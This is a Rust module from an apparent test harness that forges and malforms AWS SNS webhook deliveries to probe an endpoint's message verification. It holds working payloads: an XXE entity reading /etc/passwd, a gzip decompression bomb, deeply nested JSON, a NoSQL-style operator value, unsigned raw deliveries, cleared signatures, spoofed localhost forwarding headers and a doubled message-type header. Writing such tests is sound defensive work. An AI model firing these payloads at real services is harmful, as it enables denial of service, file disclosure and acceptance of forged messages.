//! Bodies that are no SNS message, headers that lie, and raw delivery.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use super::attack::{Attack, Needs};
use crate::attack::evidence::Right;
use crate::attack::family::Family;
use crate::attack::forge::{Forge, ForgeError};
use crate::attack::plan::Plan;

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = no_object();
    all.extend(no_json());
    all.extend(members());
    all.extend(headers());
    all
}

fn attack(
    name: &'static str,
    sentence: &'static str,
    make: impl Fn(&mut Forge) -> Result<Plan, ForgeError> + Send + Sync + 'static,
) -> Attack {
    Attack::new(Family::HeaderAndBody, name, sentence, make).needs(Needs::Nothing)
}

/// A body made from a genuine one's, under genuine headers.
fn body(
    name: &'static str,
    sentence: &'static str,
    make: impl Fn(String) -> Vec<u8> + Send + Sync + 'static,
) -> Attack {
    attack(name, sentence, move |forge| {
        let envelope = forge.notification();
        let signed = forge.sign(envelope)?;
        Ok(Plan::post(forge.delivery(&signed).body(make(signed.to_json()))))
    })
}

/// JSON that is no envelope.
fn no_object() -> Vec<Attack> {
    vec![
        body("empty-body", "Nothing.", |_| Vec::new()),
        body("null-body", "null.", |_| b"null".to_vec()),
        body("number-body", "A number.", |_| b"42".to_vec()),
        body("string-body", "The message as a JSON string.", |json| {
            serde_json::Value::from(json).to_string().into()
        }),
        body("list-body", "The message in a list.", |json| format!("[{json}]").into()),
        body("empty-object", "An object without members.", |_| b"{}".to_vec()),
        body("two-messages", "Two messages, one after the other.", |json| format!("{json}{json}").into()),
        body("deep-lists", "100,000 brackets.", |_| vec![b'['; 100_000]),
        body("deep-objects", "50,000 objects in each other.", |_| "{\"a\":".repeat(50_000).into()),
        body("endless-number", "A member that is a number of 100,000 digits.", |_| {
            format!("{{\"Type\":{}}}", "9".repeat(100_000)).into()
        }),
    ]
}

/// No JSON, or no UTF-8.
fn no_json() -> Vec<Attack> {
    vec![
        body("text-body", "A line of text.", |_| b"hello".to_vec()),
        body("form-body", "A form.", |_| b"Type=Notification&Message=hello".to_vec()),
        body("xml-body", "XML with an entity that names a file.", |_| {
            b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><Type>&b;</Type>"
                .to_vec()
        }),
        body("cut-body", "A message without its last byte.", |json| {
            let mut bytes = json.into_bytes();
            bytes.pop();
            bytes
        }),
        body("latin1-body", "Bytes that are no UTF-8.", |json| {
            [&json.as_bytes()[..json.len().min(40)], &[0xff, 0xfe, 0xe9]].concat()
        }),
        attack(
            "compressed-body",
            "16 MiB of brackets in a few KiB of gzip, said so in the header.",
            |forge| {
                let envelope = forge.notification();
                let signed = forge.sign(envelope)?;
                let bomb = gzip_of_brackets(16 << 20);
                Ok(Plan::post(forge.delivery(&signed).header("content-encoding", "gzip").body(bomb)))
            },
        ),
    ]
}

fn gzip_of_brackets(bytes: usize) -> Vec<u8> {
    let mut packer = GzEncoder::new(Vec::new(), Compression::fast());
    let piece = vec![b'['; 1 << 20];
    for _ in 0..bytes / piece.len() {
        // Writing into memory does not fail.
        let _ = packer.write_all(&piece);
    }
    packer.finish().unwrap_or_default()
}

/// Members that are not there, or not what they say.
fn members() -> Vec<Attack> {
    let without = |name, sentence, member: &'static str| {
        attack(name, sentence, move |forge| {
            let envelope = forge.notification();
            let signed = forge.sign(envelope)?;
            Ok(Plan::post(forge.with_member(&signed, member, None)))
        })
    };
    let with = |name, sentence, member: &'static str, value: fn() -> serde_json::Value| {
        attack(name, sentence, move |forge| {
            let envelope = forge.notification();
            let signed = forge.sign(envelope)?;
            Ok(Plan::post(forge.with_member(&signed, member, Some(value()))))
        })
    };
    vec![
        without("type-missing", "Type is missing.", "Type"),
        without("topic-missing", "TopicArn is missing.", "TopicArn"),
        without("message-missing", "Message is missing.", "Message"),
        without("message-id-missing", "MessageId is missing.", "MessageId"),
        with("type-unknown", "Type is one that SNS does not have.", "Type", || "Alarm".into()),
        with("type-as-object", "Type is an object.", "Type", || serde_json::json!({"$ne": null})),
        with("topic-as-list", "TopicArn is a list.", "TopicArn", || serde_json::json!([])),
        with("topic-no-arn", "TopicArn is no ARN.", "TopicArn", || "*".into()),
        with("timestamp-no-time", "Timestamp is no time.", "Timestamp", || "now".into()),
        with("signature-as-number", "Signature is a number.", "Signature", || 0.into()),
    ]
}

/// An attacker writes headers as he likes, and raw delivery has nothing else.
fn headers() -> Vec<Attack> {
    vec![
        attack("raw-delivery", "Raw delivery, which nobody can sign, of your topic.", |forge| {
            let envelope = forge.notification();
            Ok(Plan::post(forge.raw_delivery(&envelope)))
        }),
        attack("raw-delivery-unsaid", "Raw delivery that does not say so.", |forge| {
            let envelope = forge.notification();
            Ok(Plan::post(forge.raw_delivery(&envelope).without("x-amz-sns-rawdelivery")))
        }),
        attack(
            "forged-said-to-be-raw",
            "A forged message that says it is raw, so needs no signature.",
            |forge| {
                let envelope = forge.notification();
                let mut signed = forge.sign_as_stranger(&forge.certificate_url(), envelope)?;
                signed.signature.clear();
                Ok(Plan::post(forge.delivery(&signed).header("x-amz-sns-rawdelivery", "true")))
            },
        )
        .needs(Needs::NothingButAws),
        attack(
            "header-names-your-topic",
            "A stranger's genuine message; the header names your topic.",
            |forge| {
                let (region, account) = (forge.topic().region().to_owned(), forge.other_account());
                let envelope = forge.strange_notification(&region, account, "strange")?;
                let signed = forge.sign(envelope)?;
                let own = forge.topic().arn().to_owned();
                Ok(Plan::post(forge.delivery(&signed).header("x-amz-sns-topic-arn", &own)))
            },
        )
        .needs(Needs::Trust),
        attack(
            "header-from-aws",
            "A forged message with the headers of a proxy that vouches for AWS.",
            |forge| {
                let envelope = forge.notification();
                let mut signed = forge.sign_as_stranger(&forge.certificate_url(), envelope)?;
                signed.signature.clear();
                let delivery = forge.delivery(&signed).header("x-forwarded-host", forge.host());
                Ok(Plan::post(
                    delivery.header("x-forwarded-for", "127.0.0.1").header("x-real-ip", "127.0.0.1"),
                ))
            },
        )
        .needs(Needs::NothingButAws),
        attack(
            "header-said-twice",
            "A forged request to confirm whose header says notification, then request.",
            |forge| {
                let url = format!("http://{}/", forge.trap());
                let envelope = forge.confirmation();
                let mut signed = forge.sign_as_stranger(
                    &forge.certificate_url(),
                    crate::attack::forge::with_subscribe_url(envelope, url),
                )?;
                signed.signature.clear();
                let mut delivery = forge.delivery(&signed).header("x-amz-sns-message-type", "Notification");
                delivery
                    .headers
                    .push(("x-amz-sns-message-type".to_owned(), "SubscriptionConfirmation".to_owned()));
                Ok(Plan::post(delivery))
            },
        )
        .needs(Needs::NothingButAws),
        attack("huge-message", "A message of 4 MiB: SNS has at most 256 KiB.", |forge| {
            let mut envelope = forge.notification();
            envelope.message = "a".repeat(4 << 20);
            let signed = forge.sign_as_stranger(&forge.certificate_url(), envelope)?;
            Ok(Plan::post(forge.delivery(&signed)))
        })
        .right(Right::NotAccepted),
    ]
}
